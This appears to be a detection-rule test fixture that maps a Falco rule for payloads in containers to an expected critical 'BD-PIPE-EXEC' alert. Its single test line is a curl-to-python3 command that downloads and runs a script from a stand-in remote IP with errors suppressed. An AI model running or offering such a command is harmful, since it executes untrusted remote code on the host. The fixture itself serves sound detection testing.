# peer: falco:Decoding Payload in Container (download variant)
# want: BD-PIPE-EXEC critical
curl -s -m 2 http://203.0.113.7/x.py 2>/dev/null | python3 - || true
